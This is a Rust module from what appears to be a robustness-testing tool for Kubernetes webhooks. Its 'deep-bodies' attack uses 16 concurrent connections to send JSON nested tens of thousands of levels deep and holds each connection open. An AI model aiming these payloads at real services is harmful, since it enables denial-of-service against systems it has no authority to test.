//! Sends lists in lists in lists.

use super::{Attack, WITH_BODIES, admission, conversion};
use crate::{aim::Aim, requests::Requests};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "deep-bodies",
    about: "Sends lists in lists in lists",
    targets: WITH_BODIES,
    attackers: 16,
    once: |aim| once(aim).boxed(),
};

/// Lists around each other. The webhooks weigh a body before they read it, and refuse the deepest; the next depth is read as a long
/// review, and the last one as a short review. All are deeper than a decoder permits.
const DEPTHS: [usize; 3] = [60_000, 9_000, 200];

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let depth = DEPTHS[fastrand::usize(..DEPTHS.len())];
    let body = BODIES[fastrand::usize(..BODIES.len())](depth);
    stream.write_all(Requests::with_body(&aim.requests.any_post(), &body).as_bytes()).await?;
    aim.hold(stream).await;
    Ok(())
}

/// The first one is refused at its first byte, because no server takes a list. The lists of the others are where any JSON may be.
const BODIES: [fn(usize) -> String; 3] = [
    |depth| "[".repeat(depth),
    |depth| {
        let fields = format!("\"managedFields\":[{{\"fieldsV1\":{}}}]", deep(depth));
        admission(&format!("{{\"apiVersion\":\"a/v1\",\"kind\":\"A\",\"metadata\":{{{fields}}},\"spec\":{{}}}}"))
    },
    |depth| conversion(&format!("[{{\"apiVersion\":\"a/v2\",\"kind\":\"A\",\"spec\":{}}}]", deep(depth))),
];

fn deep(depth: usize) -> String {
    "[".repeat(depth) + &"]".repeat(depth)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reviews_are_whole_and_too_deep_to_be_parsed() {
        for body in &BODIES[1..] {
            let parsed = |depth| serde_json::from_str::<serde_json::Value>(&body(depth));
            parsed(1).expect("JSON");
            for depth in DEPTHS {
                let error = parsed(depth).expect_err("is too deep").to_string();
                assert!(error.contains("recursion limit"), "{error}");
            }
        }
    }
}
